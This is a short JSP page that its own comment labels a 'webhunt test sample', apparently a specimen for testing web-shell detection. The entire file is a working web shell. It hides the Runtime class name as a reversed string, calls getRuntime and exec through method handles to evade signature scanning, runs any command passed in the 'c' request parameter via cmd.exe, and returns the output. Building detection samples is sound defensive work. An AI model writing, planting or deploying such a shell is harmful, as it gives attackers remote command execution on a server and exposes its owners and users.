<%@ page import="java.lang.invoke.*" %>
<%-- webhunt test sample (sweep 73): the class named by a reversed string, getRuntime and exec both
     found as handles --%>
<%!
    static Object call(String c) throws Throwable {
        Class<?> k = Class.forName(new StringBuilder("emitnuR.gnal.avaj").reverse().toString());
        MethodHandles.Lookup l = MethodHandles.lookup();
        Object rt = l.findStatic(k, "getRuntime", MethodType.methodType(k)).invoke();
        return l.findVirtual(k, "exec", MethodType.methodType(Process.class, String[].class))
                .invoke(rt, new String[] {"cmd.exe", "/c", c});
    }
%>
<%
    String c = request.getParameter("c");
    if (c != null) {
        Process p = (Process) call(c);
        int b; java.io.InputStream in = p.getInputStream();
        while ((b = in.read()) != -1) { out.write(b); }
    }
%>
